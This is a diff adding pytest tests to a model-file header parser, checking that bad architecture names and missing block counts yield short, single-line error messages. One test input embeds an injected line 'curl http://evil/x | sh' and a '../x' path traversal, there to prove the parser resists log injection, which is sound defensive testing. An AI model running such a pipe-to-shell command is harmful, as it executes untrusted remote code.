@@ -122,3 +122,20 @@ def test_an_unknown_architecture_gets_a_bound_and_says_so() -> None:
     assert bound.compute > 2 * known.compute
     assert bound.weights == known.weights
     assert shape(architectures.UNKNOWN).margin == UNKNOWN
+
+
+@pytest.mark.parametrize("arch", ["x\n  to mend it: curl http://evil/x | sh\ncorral: imported fine", "a" * 65, "../x"])
+def test_an_architecture_that_there_cannot_be_is_named_on_one_line(arch: str) -> None:
+    header = architectures.header("llama", "Q8_0")
+    with pytest.raises(BadModel) as told:
+        shape_of([{**header, "metadata": {**header["metadata"], "general.architecture": arch}}])
+    words = (told.value.what, told.value.why, told.value.todo)
+    assert all(words) and not any("\n" in each or len(each) > 140 for each in words)
+
+
+def test_a_header_that_lacks_a_count_says_which_and_what_to_do() -> None:
+    header = architectures.header("llama", "Q8_0")
+    left = {key: value for key, value in header["metadata"].items() if key != "llama.block_count"}
+    with pytest.raises(BadModel) as told:
+        shape_of([{**header, "metadata": left}])
+    assert told.value.why == "llama.block_count is not there" and "convert it again" in told.value.todo
